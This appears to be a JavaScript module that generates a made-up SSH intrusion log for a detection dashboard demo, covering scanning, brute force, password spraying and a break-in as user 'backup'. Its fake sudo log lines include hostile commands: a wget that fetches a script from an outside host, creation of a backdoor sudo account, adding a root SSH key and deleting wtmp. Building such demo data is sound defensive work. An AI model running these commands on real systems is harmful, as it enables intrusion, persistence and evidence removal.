// The attack that `npm run demo` plays: what sshd and others write of it, and what to look at meanwhile. Made up, and the same
// at every run but for its times. Addresses are from the documentation ranges (RFC 5737).

const MINUTE = 60;
const HOUR = 60 * MINUTE;

export const SCANNER = '198.51.100.200';
export const BRUTE = '203.0.113.7';
export const INTRUDER = '203.0.113.66';
/** Whom the intruder gets in as. */
export const VICTIM = 'backup';

/** How long the live part takes, in seconds. */
export const SECONDS = 48;

const port = (id) => 32768 + ((id * 7919) % 28000);

/**
 * Lines by time, in seconds before (history) and after the beginning of the live part.
 *
 * @returns {{ lines: { at: number, text: (time: string) => string }[], acts: { at: number, says: string, look: string }[] }}
 */
export function story() {
  const lines = [];
  let pid = 2000;

  const write = (at, tag, message) => lines.push({ at, text: (time) => `${time} web-1 ${tag}: ${message}` });
  const sshd = (at, id, message) => write(at, `sshd[${id}]`, message);

  const fails = (at, address, user, exists) => {
    const id = ++pid;
    const who = exists ? user : `invalid user ${user}`;
    if (!exists) sshd(at, id, `Invalid user ${user} from ${address} port ${port(id)}`);
    sshd(at + 0.05, id, `Failed password for ${who} from ${address} port ${port(id)} ssh2`);
    const state = exists ? 'authenticating' : 'invalid';
    sshd(at + 0.1, id, `Connection closed by ${state} user ${user} ${address} port ${port(id)} [preauth]`);
  };
  const logsIn = (at, address, user, method, uid, minutes) => {
    const id = ++pid;
    const key = method === 'publickey' ? `: ED25519 SHA256:${user.padEnd(43, 'k')}` : '';
    sshd(at, id, `Accepted ${method} for ${user} from ${address} port ${port(id)} ssh2${key}`);
    sshd(at + 0.05, id, `pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)`);
    if (minutes === null) return;
    const end = at + minutes * MINUTE;
    sshd(end, id, `Received disconnect from ${address} port ${port(id)}:11: disconnected by user`);
    sshd(end + 0.05, id, `Disconnected from user ${user} ${address} port ${port(id)}`);
    sshd(end + 0.1, id, `pam_unix(sshd:session): session closed for user ${user}`);
  };
  const sudo = (at, command) =>
    write(at, `sudo[${++pid}]`, `  ${VICTIM} : TTY=pts/1 ; PWD=/home/${VICTIM} ; USER=root ; COMMAND=${command}`);

  // A day as it always is.
  for (let hour = 1; hour < 24; hour++) {
    logsIn(-hour * HOUR - 5 * MINUTE, '192.0.2.80', 'deploy', 'publickey', 1003, 2);
    if (hour % 4 === 0) logsIn(-hour * HOUR - 20 * MINUTE, '192.0.2.10', 'alice', 'publickey', 1001, 12);
    if (hour % 6 === 0) logsIn(-hour * HOUR - 30 * MINUTE, '192.0.2.11', VICTIM, 'publickey', 1005, 4);
    for (let noise = 0; noise < 3; noise++)
      fails(-hour * HOUR + noise * 11 * MINUTE, `198.51.100.${100 + hour}`, ['admin', 'user', 'test'][noise], false);
  }

  // The live part.
  fails(1, '198.51.100.31', 'admin', false);
  logsIn(2, '192.0.2.10', 'alice', 'publickey', 1001, null);
  fails(4, '198.51.100.32', 'ubnt', false);
  for (let visit = 0; visit < 36; visit++)
    sshd(6 + visit / 6, ++pid, `Connection closed by ${SCANNER} port ${port(pid)}`);
  for (let attempt = 0; attempt < 24; attempt++) fails(12 + attempt / 2, BRUTE, 'root', true);
  const names = ['admin', 'oracle', 'git', 'postgres', 'ubuntu', 'test', 'jenkins', 'pi', 'mysql', 'www', 'ftp'];
  names.forEach((name, index) => fails(23 + index, INTRUDER, name, false));
  fails(34, INTRUDER, VICTIM, true);
  logsIn(36, INTRUDER, VICTIM, 'password', 1005, null);
  sudo(38, '/usr/bin/wget -q http://198.51.100.77/x.sh -O /tmp/.x');
  sudo(40, '/usr/sbin/useradd -m -s /bin/bash -G sudo support');
  write(
    40.2,
    `useradd[${++pid}]`,
    'new user: name=support, UID=1007, GID=1007, home=/home/support, shell=/bin/bash, from=/dev/pts/1',
  );
  write(40.3, `useradd[${pid}]`, "add 'support' to group 'sudo'");
  sudo(43, '/usr/bin/tee -a /root/.ssh/authorized_keys');
  sudo(45, '/usr/bin/rm -f /var/log/wtmp');
  fails(47, '198.51.100.33', 'guest', false);

  const acts = [
    { at: 0, says: 'An ordinary day, with the noise of the internet.', look: '/dashboard#/entries' },
    { at: 6, says: `${SCANNER} scans: it connects, and never tries to log in.`, look: '/dashboard#/alerts' },
    { at: 12, says: `${BRUTE} tries one password after another on root.`, look: '/dashboard#/alerts' },
    { at: 23, says: `${INTRUDER} tries a password on many user names.`, look: '/dashboard#/incidents' },
    { at: 36, says: `${INTRUDER} is in, as ${VICTIM}.`, look: '/dashboard#/' },
    {
      at: 40,
      says: 'It becomes root, makes an account, leaves a key behind and removes logs.',
      look: '/dashboard#/incidents',
    },
  ];
  return { lines: lines.toSorted((a, b) => a.at - b.at), acts };
}
